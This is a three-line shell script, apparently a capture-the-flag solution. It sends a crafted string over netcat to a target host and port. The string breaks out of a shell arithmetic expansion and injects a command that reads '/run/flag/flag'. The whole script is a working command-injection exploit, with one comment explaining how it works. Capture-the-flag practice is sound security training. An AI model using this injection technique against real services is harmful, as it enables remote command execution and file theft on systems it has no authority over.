#!/bin/sh
# What is typed is a command as soon as the sum is closed.
echo '1 )); cat /run/flag/flag; echo $(( 1' | nc "$1" "${2:-9999}"
